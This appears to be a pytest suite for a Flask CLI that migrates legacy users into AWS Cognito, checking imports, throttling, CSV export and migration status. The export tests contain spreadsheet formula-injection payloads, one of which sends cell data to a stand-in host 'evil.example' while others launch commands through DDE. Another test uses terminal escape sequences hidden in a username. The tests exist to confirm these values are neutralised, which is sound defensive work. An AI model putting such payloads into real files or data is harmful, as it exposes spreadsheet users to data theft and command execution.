"""`flask users` (import, export-cognito-csv, migration-status) over moto's server.

The legacy store is a SQLite database of the test's own; every test has a fresh pool, so
counts of users in Cognito are exact. Failures moto cannot show (throttling) are made by
a botocore before-call hook on the app's own client; those tests say `stubbed`.
"""

from __future__ import annotations

import csv
import datetime
import io
import itertools
import json
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from botocore.awsrequest import AWSResponse
from botocore.exceptions import EndpointConnectionError
from click.testing import Result
from flask import Flask
from sqlalchemy import text

from proxy_app.aws.table import Records
from proxy_app.cli.migration import DEFAULT_WORKERS
from proxy_app.config import Config
from proxy_app.legacy import LegacyUnavailable, LegacyUser
from proxy_app.legacy.sql import SqlSource
from proxy_app.migration import bulk_import as bulk
from proxy_app.migration import cognito_csv
from tests.support.cognito import Pool
from tests.support.legacy_hashes import bcrypt_hash
from tests.support.legacy_stores import Store, Stores
from tests.support.network import closed_port
from tests.support.stubs import cognito_client

USERS_QUERY = (
    "SELECT login AS username, password_hash, email, email_verified, given_name, birthdate, "
    'tier AS "custom:tier" FROM users ORDER BY login'
)
SERVICE = "cognito-identity-provider"
FAST = ("--rate", "2000")  # far above the default: tests must not wait for the pacer


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Stores(tmp_path) as stores:
        yield stores.get("sqlite")


@pytest.fixture(scope="module")
def service_table(moto_endpoint: str) -> str:
    """The service's table, which a legacy store requires (deleted accounts stay deleted)."""
    name = "cli-service-table"
    Records(
        Config(region="us-east-1", records_table=name, dynamodb_endpoint_url=moto_endpoint)
    ).create_table()
    return name


@pytest.fixture
def make_app(
    make_app: Callable[..., Flask], service_table: str, moto_endpoint: str
) -> Callable[..., Flask]:
    """conftest's factory, with the service's table unless a test names its own."""

    def factory(target: Pool | None = None, **overrides: Any) -> Flask:
        overrides.setdefault("records_table", service_table)
        overrides.setdefault("dynamodb_endpoint_url", moto_endpoint)
        return make_app(target, **overrides)

    return factory


@pytest.fixture
def app(make_app: Callable[..., Flask], fresh_pool: Pool, store: Store) -> Flask:
    return make_app(
        fresh_pool,
        legacy_database_url=store.url,
        legacy_user_query=store.user_query(),
        legacy_users_query=USERS_QUERY,
    )


def add_users(store: Store, count: int, *, prefix: str = "user") -> list[str]:
    """Insert `count` legacy users in one statement; return their logins, sorted."""
    logins = [f"{prefix}-{number:04d}" for number in range(count)]
    rows = [
        {
            "login": login,
            "password_hash": f"$2b$04$not-a-real-hash-of-{login}",
            "email": f"{login}@example.com",
            "email_verified": number % 2 == 0,
            "given_name": f"Given {number}",
            "tier": "gold",
        }
        for number, login in enumerate(logins)
    ]
    with store.engine.begin() as connection:
        connection.execute(
            text(
                "INSERT INTO users (login, password_hash, email, email_verified, given_name, tier) "
                "VALUES (:login, :password_hash, :email, :email_verified, :given_name, :tier)"
            ),
            rows,
        )
    return sorted(logins)


def invoke(app: Flask, *args: str) -> Result:
    """Run `flask users ARGS`; an unexpected exception (a traceback) fails the test."""
    result = app.test_cli_runner().invoke(args=["users", *args])
    assert result.exc_info is None or result.exc_info[0] is SystemExit, result.exc_info
    assert "Traceback" not in result.output
    return result


def error_line(result: Result) -> str:
    """The command's one error line, the last on stderr (log lines may come before it)."""
    lines = result.stderr.splitlines()
    assert [line for line in lines if line.startswith("Error:")] == lines[-1:], result.stderr
    return lines[-1]


def pool_users(cognito: Any, pool: Pool) -> list[dict[str, Any]]:
    """Every user of the pool, read with the test's own client."""
    found: list[dict[str, Any]] = []
    for page in cognito.get_paginator("list_users").paginate(UserPoolId=pool.id):
        found.extend(page["Users"])
    return found


def attributes_of(cognito: Any, pool: Pool, username: str) -> dict[str, str]:
    answer = cognito.admin_get_user(UserPoolId=pool.id, Username=username)
    return {
        item["Name"]: item["Value"] for item in answer["UserAttributes"] if item["Name"] != "sub"
    }


@contextmanager
def before_call(app: Flask, operation: str, hook: Callable[..., Any]) -> Iterator[None]:
    """Run `hook` before each call of `operation` by the app's Cognito client."""
    events = cognito_client(app).meta.events
    event = f"before-call.{SERVICE}.{operation}"
    events.register(event, hook)
    try:
        yield
    finally:
        events.unregister(event, hook)


def after_calls(calls: int, action: Callable[[], Any]) -> Callable[..., Any]:
    """A hook that lets `calls` calls through, then answers every later one with `action`."""
    counter = itertools.count(1)
    lock = threading.Lock()

    def hook(**_: Any) -> Any:
        with lock:
            number = next(counter)
        return action() if number > calls else None

    return hook


def unreachable() -> None:
    raise EndpointConnectionError(endpoint_url="http://cognito.invalid")


def refusal(code: str) -> Callable[[], tuple[AWSResponse, dict[str, Any]]]:
    """A stubbed Cognito error answer (returned by a before-call hook, so no retries)."""

    def answer() -> tuple[AWSResponse, dict[str, Any]]:
        return (
            AWSResponse("http://cognito.invalid", 400, {}, None),
            {
                "Error": {"Code": code, "Message": "refused"},
                "ResponseMetadata": {"HTTPStatusCode": 400},
            },
        )

    return answer


throttled = refusal("TooManyRequestsException")  # over the UserCreation quota


def legacy_listing_fails(monkeypatch: pytest.MonkeyPatch, after: int, error: BaseException) -> None:
    """Make the legacy store's listing raise `error` once it has yielded `after` users."""
    streamed = SqlSource.iter_users

    def failing(self: SqlSource) -> Iterator[Any]:
        for number, user in enumerate(streamed(self)):
            if number == after:
                raise error
            yield user

    monkeypatch.setattr(SqlSource, "iter_users", failing)


def read_report(path: Path) -> dict[str, Any]:
    report: dict[str, Any] = json.loads(path.read_text())
    return report


# --- import ---------------------------------------------------------------------------


@pytest.mark.slow
def test_an_import_of_1000_users_interrupted_by_cognito_resumes_without_duplicates(
    app: Flask, store: Store, fresh_pool: Pool, cognito: Any, tmp_path: Path
) -> None:
    logins = add_users(store, 1000)
    first_report = tmp_path / "first.json"
    with before_call(app, "AdminCreateUser", after_calls(300, unreachable)):
        first = invoke(app, "import", *FAST, "--report", str(first_report))
    assert first.exit_code == 1
    assert "stopped: Cognito or the service's table did not answer" in first.stderr
    assert "[CognitoUnavailable]; run the same command again to resume" in first.stderr
    report = read_report(first_report)
    counts = report["counts"]
    assert report["outcome"] == "stopped"
    assert report["stopReason"] == "CognitoUnavailable"
    assert counts["created"] == 300
    # The calls in flight when Cognito went away failed; nothing after them was tried.
    assert 1 <= counts["failed"] <= DEFAULT_WORKERS
    assert {entry["reason"] for entry in report["failed"]} == {"CognitoUnavailable"}
    assert counts["created"] + counts["failed"] + counts["unattempted"] == 1000
    assert len(pool_users(cognito, fresh_pool)) == 300

    second_report = tmp_path / "second.json"
    second = invoke(app, "import", *FAST, "--report", str(second_report))
    assert second.exit_code == 0, second.output
    counts = read_report(second_report)["counts"]
    assert counts == {
        "total": 1000,
        "created": 700,
        "skipped": 300,
        "failed": 0,
        "unattempted": 0,
    }
    assert read_report(second_report)["skipped"] == {"AlreadyInCognito": 300}
    usernames = [user["Username"] for user in pool_users(cognito, fresh_pool)]
    assert sorted(usernames) == logins  # every one, once
    assert {user["UserStatus"] for user in pool_users(cognito, fresh_pool)} == {
        "FORCE_CHANGE_PASSWORD"
    }
    assert "completed: 1000 users imported" in second.stdout


def test_imported_users_carry_their_attributes_and_never_a_password(
    app: Flask, store: Store, fresh_pool: Pool, cognito: Any, tmp_path: Path
) -> None:
    store.add_user(
        "ada",
        bcrypt_hash("legacy-Passw0rd!"),
        email="ada@example.com",
        email_verified=True,
        given_name="Ada",
        tier="gold",
    )
    report_path = tmp_path / "report.json"
    result = invoke(app, "import", *FAST, "--report", str(report_path))
    assert result.exit_code == 0, result.output
    assert attributes_of(cognito, fresh_pool, "ada") == {
        "email": "ada@example.com",
        "email_verified": "true",
        "given_name": "Ada",
        "custom:tier": "gold",
    }
    user = cognito.admin_get_user(UserPoolId=fresh_pool.id, Username="ada")
    assert user["UserStatus"] == "FORCE_CHANGE_PASSWORD"
    text_written = report_path.read_text() + result.output
    assert "$2b$" not in text_written and "legacy-Passw0rd" not in text_written


def test_a_dry_run_creates_nobody_and_says_what_it_would_do(
    app: Flask, store: Store, fresh_pool: Pool, cognito: Any
) -> None:
    logins = add_users(store, 5)
    cognito.admin_create_user(
        UserPoolId=fresh_pool.id, Username=logins[0], MessageAction="SUPPRESS"
    )
    result = invoke(app, "import", *FAST, "--dry-run", "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert report["dryRun"] is True
    assert report["counts"]["created"] == 4
    assert report["skipped"] == {"AlreadyInCognito": 1}
    assert [user["Username"] for user in pool_users(cognito, fresh_pool)] == [logins[0]]


def test_a_second_run_skips_everyone_and_creates_nothing(
    app: Flask, store: Store, fresh_pool: Pool, cognito: Any
) -> None:
    add_users(store, 12)
    assert invoke(app, "import", *FAST).exit_code == 0
    again = invoke(app, "import", *FAST, "--json")
    assert again.exit_code == 0
    report = json.loads(again.stdout)
    assert report["counts"]["created"] == 0
    assert report["counts"]["skipped"] == 12
    assert len(pool_users(cognito, fresh_pool)) == 12


def test_throttled_creations_back_off_exponentially_and_retry_the_user_stubbed(
    app: Flask, store: Store, fresh_pool: Pool, cognito: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bulk, "BACKOFF_SECONDS", 0.01)
    logins = add_users(store, 4)
    answers = iter([throttled, throttled, throttled])

    def throttle_first_three(**_: Any) -> Any:
        answer = next(answers, None)
        return None if answer is None else answer()

    with before_call(app, "AdminCreateUser", throttle_first_three):
        result = invoke(app, "import", "--rate", "40", "--workers", "1", "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert report["counts"]["created"] == 4  # the throttled user too: never skipped
    assert report["throttled"] == 3
    assert report["finalRate"] == 5.0  # halved at each throttle: 40, 20, 10, 5
    waits = [line for line in result.stderr.splitlines() if line.startswith("throttled")]
    assert waits == [
        "throttled by Cognito: retrying in 0.01 s, at 20/s",
        "throttled by Cognito: retrying in 0.02 s, at 10/s",
        "throttled by Cognito: retrying in 0.04 s, at 5/s",
    ]
    assert sorted(user["Username"] for user in pool_users(cognito, fresh_pool)) == logins


def test_throttling_that_does_not_end_stops_the_run_and_names_the_user_stubbed(
    app: Flask,
    store: Store,
    fresh_pool: Pool,
    cognito: Any,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    monkeypatch.setattr(bulk, "BACKOFF_SECONDS", 0.001)
    logins = add_users(store, 6)
    report_path = tmp_path / "report.json"
    with before_call(app, "AdminCreateUser", after_calls(2, throttled)):
        result = invoke(app, "import", *FAST, "--workers", "1", "--report", str(report_path))
    assert result.exit_code == 1
    assert "Cognito kept throttling after 6 retries" in result.stderr
    report = read_report(report_path)
    assert report["failed"] == [{"username": logins[2], "reason": "TooManyRequestsException"}]
    assert report["throttled"] == bulk.MAX_RETRIES
    assert report["counts"]["unattempted"] == 3
    assert len(pool_users(cognito, fresh_pool)) == 2


def test_the_rate_limit_spaces_the_creations(app: Flask, store: Store) -> None:
    add_users(store, 21)
    started = time.monotonic()
    result = invoke(app, "import", "--rate", "20")
    elapsed = time.monotonic() - started
    assert result.exit_code == 0, result.output
    # 21 calls at 20/s: the last one no sooner than 1 s after the first. Unpaced, moto
    # takes about 0.1 s for them.
    assert elapsed >= 1.0


def test_the_pacer_gives_no_burst_after_a_pause_and_slows_down_once_per_rate() -> None:
    now = [0.0]
    slept: list[float] = []

    def sleep(seconds: float) -> None:
        slept.append(seconds)
        now[0] += seconds

    pacer = bulk.Pacer(5.0, lambda: now[0], sleep)
    for _ in range(6):
        pacer.wait()
    assert slept == pytest.approx([0.2] * 5)
    now[0] += 10.0  # idle: the unused slots are not saved up
    slept.clear()
    pacer.wait()
    pacer.wait()
    assert slept == pytest.approx([0.2])
    assert pacer.slow_down(5.0) == 2.5
    assert pacer.slow_down(5.0) == 2.5  # a second worker throttled at the old rate
    assert pacer.slow_down(2.5) == 1.25
    assert pacer.slow_down(1.25) == bulk.MIN_RATE


def test_ctrl_c_mid_import_writes_the_report_so_far(
    app: Flask,
    store: Store,
    fresh_pool: Pool,
    cognito: Any,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    add_users(store, 10)
    legacy_listing_fails(monkeypatch, 4, KeyboardInterrupt())
    report_path = tmp_path / "report.json"
    result = invoke(app, "import", *FAST, "--report", str(report_path))
    assert result.exit_code == 130
    assert "interrupted: run the same command again to resume" in result.stderr
    report = read_report(report_path)
    assert report["outcome"] == "interrupted"
    assert report["finished"] is not None
    # The four users sent before the interrupt finished and are counted.
    assert report["counts"]["created"] == 4
    assert report["counts"]["unattempted"] == 6
    assert len(pool_users(cognito, fresh_pool)) == 4


def test_a_legacy_store_that_fails_mid_import_stops_the_run_with_a_report(
    app: Flask,
    store: Store,
    fresh_pool: Pool,
    cognito: Any,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    add_users(store, 8)
    legacy_listing_fails(monkeypatch, 5, LegacyUnavailable("the legacy database failed"))
    report_path = tmp_path / "report.json"
    result = invoke(app, "import", *FAST, "--report", str(report_path))
    assert result.exit_code == 1
    assert error_line(result) == (
        "Error: stopped: the legacy database failed [LegacyUnavailable]; run the same "
        "command again to resume (users already in Cognito are skipped)"
    )
    report = read_report(report_path)
    assert (report["outcome"], report["stopReason"]) == ("stopped", "LegacyUnavailable")
    assert report["counts"]["created"] == 5
    assert report["counts"]["unattempted"] == 3
    assert len(pool_users(cognito, fresh_pool)) == 5


def test_limit_sends_at_most_that_many_users_and_a_rerun_goes_on(
    app: Flask, store: Store, fresh_pool: Pool, cognito: Any
) -> None:
    add_users(store, 10)
    first = invoke(app, "import", *FAST, "--limit", "4", "--json")
    assert first.exit_code == 0, first.output
    assert json.loads(first.stdout)["outcome"] == "limited"
    assert len(pool_users(cognito, fresh_pool)) == 4
    second = invoke(app, "import", *FAST, "--limit", "4", "--json")
    report = json.loads(second.stdout)
    # Users already there do not use up the limit, so each run makes progress.
    assert (report["counts"]["created"], report["counts"]["skipped"]) == (4, 4)
    assert len(pool_users(cognito, fresh_pool)) == 8


def test_a_csv_import_filters_attributes_and_reports_rows_without_a_username(
    app: Flask, fresh_pool: Pool, cognito: Any, tmp_path: Path
) -> None:
    source = tmp_path / "users.csv"
    source.write_text(
        "cognito:username,email,email_verified,custom:tier,sub,password_hash,phone_number\n"
        "grace,grace@example.com,True,silver,forged-sub,$2b$04$abc,\n"
        ",nobody@example.com,false,,,,\n"
        "linus,linus@example.com,false,,,,+15550100\n",
        encoding="utf-8",
    )
    report_path = tmp_path / "report.json"
    result = invoke(app, "import", *FAST, "--csv", str(source), "--report", str(report_path))
    assert result.exit_code == 1  # one row failed
    assert attributes_of(cognito, fresh_pool, "grace") == {
        "email": "grace@example.com",
        "email_verified": "true",
        "custom:tier": "silver",
    }
    assert attributes_of(cognito, fresh_pool, "linus") == {
        "email": "linus@example.com",
        "email_verified": "false",
        "phone_number": "+15550100",
    }
    report = read_report(report_path)
    assert report["source"] == "csv"
    assert report["failed"] == [{"username": "", "reason": "MissingUsername", "line": 3}]
    assert report["counts"] == {
        "total": 3,
        "created": 2,
        "skipped": 0,
        "failed": 1,
        "unattempted": 0,
    }
    assert "$2b$" not in report_path.read_text()


def test_an_attribute_the_pool_lacks_fails_that_user_only(
    app: Flask, fresh_pool: Pool, cognito: Any, tmp_path: Path
) -> None:
    # moto would store it; Cognito refuses it: the import checks the pool's schema.
    source = tmp_path / "users.csv"
    source.write_text(
        "username,email,custom:shoe_size\nann,ann@example.com,42\nbob,bob@example.com,\n",
        encoding="utf-8",
    )
    result = invoke(app, "import", *FAST, "--csv", str(source), "--json")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert report["failed"] == [
        {"username": "ann", "reason": "UnknownAttribute", "attributes": ["custom:shoe_size"]}
    ]
    assert [user["Username"] for user in pool_users(cognito, fresh_pool)] == ["bob"]


def test_a_csv_without_a_username_column_is_refused_before_anything_is_created(
    app: Flask, fresh_pool: Pool, cognito: Any, tmp_path: Path
) -> None:
    source = tmp_path / "users.csv"
    source.write_text("login,email\nann,ann@example.com\n", encoding="utf-8")
    result = invoke(app, "import", *FAST, "--csv", str(source))
    assert result.exit_code == 1
    assert error_line(result) == (
        "Error: legacy user store: users.csv has no username or cognito:username column"
    )
    assert pool_users(cognito, fresh_pool) == []


def test_a_csv_field_over_128_kib_is_reported_as_such_not_as_a_bad_encoding(
    app: Flask, fresh_pool: Pool, cognito: Any, tmp_path: Path
) -> None:
    source = tmp_path / "users.csv"
    huge = "x" * (128 * 1024 + 1)
    source.write_text(f"username,name\nann,Ann\nbob,{huge}\n", encoding="utf-8")
    result = invoke(app, "import", *FAST, "--csv", str(source))
    assert result.exit_code == 1
    assert error_line(result) == (
        "Error: legacy user store: users.csv: a field on line 3 is over 128 KiB"
    )
    assert huge[:100] not in result.output
    assert pool_users(cognito, fresh_pool) == []
    # Read past the count too (a file changed since): the same answer.
    with pytest.raises(cognito_csv.UnreadableCsv, match="a field on line 3 is over 128 KiB"):
        list(cognito_csv.csv_users(source, emails_verified=False))


def test_an_account_deleted_through_the_service_is_not_brought_back(
    make_app: Callable[..., Flask],
    fresh_pool: Pool,
    store: Store,
    cognito: Any,
    moto_endpoint: str,
) -> None:
    table = f"records-{fresh_pool.id[-8:]}"
    app = make_app(
        fresh_pool,
        legacy_database_url=store.url,
        legacy_user_query=store.user_query(),
        legacy_users_query=USERS_QUERY,
        records_table=table,
        dynamodb_endpoint_url=moto_endpoint,
    )
    records = Records(app.config["PROXY"])
    records.create_table()
    logins = add_users(store, 3)
    records.record_deletion(logins[1], "sub-of-the-deleted-account")
    result = invoke(app, "import", *FAST, "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["skipped"] == {"DeletedThroughService": 1}
    assert sorted(user["Username"] for user in pool_users(cognito, fresh_pool)) == [
        logins[0],
        logins[2],
    ]


def test_a_refusal_that_would_fail_everyone_stops_at_once_stubbed(
    app: Flask, store: Store, fresh_pool: Pool, cognito: Any
) -> None:
    add_users(store, 5)
    with before_call(app, "AdminCreateUser", after_calls(0, refusal("AccessDeniedException"))):
        result = invoke(app, "import", *FAST, "--workers", "1", "--json")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert report["stopReason"] == "AccessDeniedException"
    assert report["counts"]["failed"] == 1
    assert report["counts"]["unattempted"] == 4
    assert "Cognito refused with AccessDeniedException" in result.stderr


# --- one-line errors ------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [("import",), ("export-cognito-csv",), ("migration-status",)],
)
def test_a_legacy_database_that_is_down_is_one_line_and_exit_1(
    make_app: Callable[..., Flask], fresh_pool: Pool, tmp_path: Path, command: tuple[str, ...]
) -> None:
    app = make_app(
        fresh_pool,
        legacy_database_url=f"sqlite:///{tmp_path}/missing/legacy.db",
        legacy_user_query="SELECT password_hash FROM users WHERE login = :username",
        legacy_users_query=USERS_QUERY,
    )
    result = invoke(app, *command)
    assert result.exit_code == 1
    assert error_line(result) == "Error: legacy user store: the legacy database failed"


@pytest.mark.parametrize(
    "command",
    [("import",), ("export-cognito-csv",), ("migration-status",)],
)
def test_cognito_unreachable_is_one_line_and_exit_1(
    make_app: Callable[..., Flask],
    fresh_pool: Pool,
    store: Store,
    command: tuple[str, ...],
) -> None:
    add_users(store, 2)
    app = make_app(
        fresh_pool,
        endpoint_url=f"http://127.0.0.1:{closed_port()}",
        legacy_database_url=store.url,
        legacy_user_query=store.user_query(),
        legacy_users_query=USERS_QUERY,
    )
    result = invoke(app, *command)
    assert result.exit_code == 1
    assert error_line(result).startswith("Error: Cognito did not answer (EndpointConnectionError)")


def test_without_a_legacy_store_the_commands_say_what_to_set(
    make_app: Callable[..., Flask], fresh_pool: Pool
) -> None:
    result = invoke(make_app(fresh_pool), "migration-status")
    assert result.exit_code == 1
    assert error_line(result) == (
        "Error: no legacy user store: set LEGACY_DATABASE_URL, LEGACY_USER_QUERY and "
        "LEGACY_USERS_QUERY (or use --csv)"
    )


def test_the_http_legacy_source_cannot_list_its_users(
    make_app: Callable[..., Flask], fresh_pool: Pool
) -> None:
    app = make_app(fresh_pool, legacy_auth_url=f"http://127.0.0.1:{closed_port()}/check")
    result = invoke(app, "import")
    assert result.exit_code == 1
    assert result.stderr == ("Error: legacy user store: not supported by the HTTP legacy source\n")


# --- export-cognito-csv -----------------------------------------------------------------

COGNITO_HEADER = [
    "name",
    "given_name",
    "family_name",
    "middle_name",
    "nickname",
    "preferred_username",
    "profile",
    "picture",
    "website",
    "email",
    "email_verified",
    "gender",
    "birthdate",
    "zoneinfo",
    "locale",
    "phone_number",
    "phone_number_verified",
    "address",
    "updated_at",
    "custom:tier",
    "cognito:mfa_enabled",
    "cognito:username",
]


def test_export_writes_the_csv_cognito_import_jobs_take(
    app: Flask, store: Store, tmp_path: Path
) -> None:
    store.add_user(
        "ada",
        "$2b$04$hash",
        email="ada@example.com",
        email_verified=True,
        given_name="Ada, Countess",
        birthdate=datetime.date(1815, 12, 10),
        tier="gold",
    )
    store.add_user("bob", None, email="bob@example.com")
    output = tmp_path / "import.csv"
    result = invoke(app, "export-cognito-csv", "--output", str(output))
    assert result.exit_code == 0, result.output
    assert result.stderr == f"wrote 2 users to {output}\n"
    rows = list(csv.reader(io.StringIO(output.read_text(encoding="utf-8"))))
    assert rows[0] == COGNITO_HEADER
    ada = dict(zip(COGNITO_HEADER, rows[1], strict=True))
    assert {name: value for name, value in ada.items() if value} == {
        "given_name": "Ada, Countess",
        "email": "ada@example.com",
        "email_verified": "true",
        "birthdate": "1815-12-10",
        "phone_number_verified": "false",
        "custom:tier": "gold",
        "cognito:mfa_enabled": "false",
        "cognito:username": "ada",
    }
    bob = dict(zip(COGNITO_HEADER, rows[2], strict=True))
    assert (bob["email_verified"], bob["cognito:username"]) == ("false", "bob")
    assert len(rows) == 3
    assert "$2b$" not in output.read_text()


def test_export_to_standard_output_and_a_failed_export_leaves_no_file(
    app: Flask, store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_users(store, 3)
    result = invoke(app, "export-cognito-csv")
    assert result.exit_code == 0
    assert result.stdout.splitlines()[0] == ",".join(COGNITO_HEADER)
    assert len(result.stdout.splitlines()) == 4

    legacy_listing_fails(monkeypatch, 2, LegacyUnavailable("the legacy database failed"))
    output = tmp_path / "import.csv"
    failed = invoke(app, "export-cognito-csv", "-o", str(output))
    assert failed.exit_code == 1
    assert error_line(failed) == "Error: legacy user store: the legacy database failed"
    assert list(tmp_path.iterdir()) == [tmp_path / store.url.rsplit("/", 1)[1]]


def test_export_names_attributes_the_pool_lacks(
    make_app: Callable[..., Flask], fresh_pool: Pool, store: Store, tmp_path: Path
) -> None:
    app = make_app(
        fresh_pool,
        legacy_database_url=store.url,
        legacy_user_query=store.user_query(),
        legacy_users_query='SELECT login AS username, tier AS "custom:shoe_size" FROM users',
    )
    store.add_user("ann", None, tier="42")
    result = invoke(app, "export-cognito-csv", "-o", str(tmp_path / "out.csv"))
    assert result.exit_code == 0
    assert "not in the pool's schema, left out: custom:shoe_size (1)" in result.stderr


def test_an_exported_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(
    make_app: Callable[..., Flask], fresh_pool: Pool, store: Store, tmp_path: Path
) -> None:
    formulas = [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "+1 555 123 4567",  # not E.164: no exception for it
    ]
    inert = ["+15551234567", "-42", "+3.5", "12", "Ada", "ada@example.com", ""]
    users = [
        LegacyUser(f"user-{number}", {"name": value, "phone_number": value})
        for number, value in enumerate(formulas + inert)
    ]
    users.append(LegacyUser("=evil()", {"custom:tier": "-gold"}))
    schema = cognito_csv.PoolSchema(custom=("custom:tier",), required=frozenset())
    out = io.StringIO()
    export = cognito_csv.write_cognito_csv(schema, users, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == len(users)  # a carriage return in a value ends no row
    for row, value in zip(rows, formulas + inert, strict=False):
        expected = value if value in inert else "'" + value
        assert (row["name"], row["phone_number"]) == (expected, expected)
    assert (rows[-1]["cognito:username"], rows[-1]["custom:tier"]) == ("'=evil()", "'-gold")
    assert export.quoted == {
        "name": len(formulas),
        "phone_number": len(formulas),
        "cognito:username": 1,
        "custom:tier": 1,
    }

    # The command names the columns, so the values can be corrected at their source.
    app = make_app(
        fresh_pool,
        legacy_database_url=store.url,
        legacy_user_query=store.user_query(),
        legacy_users_query="SELECT login AS username, given_name AS name FROM users",
    )
    store.add_user("ann", None, given_name="=1+1")
    result = invoke(app, "export-cognito-csv", "-o", str(tmp_path / "out.csv"))
    assert result.exit_code == 0
    assert "written after a ' (an import job keeps it" in result.stderr
    assert result.stderr.splitlines()[0].endswith(": name (1)")
    assert "'=1+1" in (tmp_path / "out.csv").read_text(encoding="utf-8")


# --- migration-status -------------------------------------------------------------------


def test_migration_status_counts_who_has_moved(
    app: Flask, store: Store, fresh_pool: Pool, cognito: Any
) -> None:
    logins = add_users(store, 6)
    for login in logins[:3]:  # imported: no password yet
        cognito.admin_create_user(
            UserPoolId=fresh_pool.id, Username=login, MessageAction="SUPPRESS"
        )
    # Signed in once: the migration gave it its password.
    cognito.admin_set_user_password(
        UserPoolId=fresh_pool.id, Username=logins[0], Password="Migrated-Passw0rd!", Permanent=True
    )
    cognito.admin_create_user(
        UserPoolId=fresh_pool.id, Username="cognito-only", MessageAction="SUPPRESS"
    )

    result = invoke(app, "migration-status", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == {
        "legacyUsers": 6,
        "inCognito": 3,
        "withPassword": 1,
        "withoutPassword": 2,
        "otherStatus": 0,
        "absent": 3,
        "pending": 5,
        "cognitoOnly": 1,
    }

    listed = invoke(app, "migration-status", "--list")
    lines = listed.stdout.splitlines()
    assert lines[:6] == [
        f"{logins[0]}  CONFIRMED",
        f"{logins[1]}  FORCE_CHANGE_PASSWORD",
        f"{logins[2]}  FORCE_CHANGE_PASSWORD",
        f"{logins[3]}  ABSENT",
        f"{logins[4]}  ABSENT",
        f"{logins[5]}  ABSENT",
    ]
    table = [[part.rstrip() for part in line.rsplit(None, 1)] for line in lines[7:]]
    assert table == [
        ["legacy users", "6"],
        ["in Cognito", "3"],
        ["  with their password (CONFIRMED)", "1"],
        ["  without a password yet", "2"],
        ["  in another status", "0"],
        ["not in Cognito", "3"],
        ["pending (no password in Cognito yet)", "5"],
        ["Cognito users not in the legacy store", "1"],
    ]
    assert lines[6] == ""

    as_json = json.loads(invoke(app, "migration-status", "--list", "--json").stdout)
    assert as_json["users"][3] == {"username": logins[3], "status": "ABSENT"}


def test_migration_status_prints_terminal_escapes_in_legacy_usernames_as_text(
    app: Flask, store: Store
) -> None:
    store.add_user("eve\x1b]0;pwned\x07\u202e", None, email="eve@example.com")
    listed = invoke(app, "migration-status", "--list").stdout
    assert listed.splitlines()[0] == "eve\\x1b]0;pwned\\x07\\u202e  ABSENT"
    assert not any(character in listed for character in ("\x1b", "\x07", "\u202e"))
    as_json = json.loads(invoke(app, "migration-status", "--list", "--json").stdout)
    assert as_json["users"] == [{"username": "eve\x1b]0;pwned\x07\u202e", "status": "ABSENT"}]


def test_migration_status_finds_users_of_a_pool_that_signs_in_by_email(
    make_app: Callable[..., Flask], store: Store, cognito: Any, cognito_endpoint: str
) -> None:
    created = cognito.create_user_pool(PoolName="by-email", UsernameAttributes=["email"])
    pool = Pool(created["UserPool"]["Id"], "unused0client0id", cognito_endpoint)
    app = make_app(
        pool,
        legacy_database_url=store.url,
        legacy_user_query=store.user_query(),
        legacy_users_query="SELECT email AS username, email FROM users ORDER BY email",
    )
    add_users(store, 2)
    result = invoke(app, "import", *FAST)
    assert result.exit_code == 0, result.output
    # Cognito named them by a generated id; the legacy username is their email.
    assert all("@" not in user["Username"] for user in pool_users(cognito, pool))
    status = json.loads(invoke(app, "migration-status", "--json").stdout)
    assert (status["inCognito"], status["absent"], status["cognitoOnly"]) == (2, 0, 0)


# --- The migration policy, asked by the import -----------------------------------------


def test_import_then_first_sign_in_and_import_then_reset_through_the_proxy(
    make_app: Callable[..., Flask], fresh_pool: Pool, store: Store, cognito: Any
) -> None:
    password = "Legacy-Passw0rd!"
    for login in ("ivy", "joe", "kim", "lou"):
        store.add_user(login, bcrypt_hash(password), email=f"{login}@example.com")
    store.add_user("locked", "!" + bcrypt_hash(password), email="locked@example.com")
    app = make_app(
        fresh_pool,
        legacy_database_url=store.url,
        legacy_user_query=store.user_query(
            "login AS username, password_hash, email, email_verified"
        ),
        legacy_users_query=(
            "SELECT login AS username, password_hash, email, "
            "CASE WHEN login = 'lou' THEN 1 ELSE 0 END AS disabled FROM users ORDER BY login"
        ),
        legacy_emails_verified=True,
    )
    result = invoke(app, "import", *FAST, "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert report["counts"]["created"] == 4, report
    assert report["skipped"] == {"LockedInLegacyStore": 1}, report
    statuses = {u["Username"]: u for u in pool_users(cognito, fresh_pool)}
    assert sorted(statuses) == ["ivy", "joe", "kim", "lou"]
    assert statuses["lou"]["Enabled"] is False
    client = app.test_client()
    # The first sign-in gives an imported user the legacy password.
    signed_in = client.post("/admin/signin", json={"username": "ivy", "password": password})
    assert signed_in.status_code == 200, signed_in.json
    # A reset sends an imported user a code (Cognito refuses ForgotPassword before).
    assert client.post("/password/reset", json={"username": "joe"}).status_code == 200
    user = cognito.admin_get_user(UserPoolId=fresh_pool.id, Username="joe")
    assert user["UserStatus"] == "RESET_REQUIRED"
    # An imported user an administrator gives a temporary password is theirs now.
    result = invoke(app, "set-password", "kim", "--temporary", "--password", "Admin-Passw0rd!")
    assert result.exit_code == 0, result.output
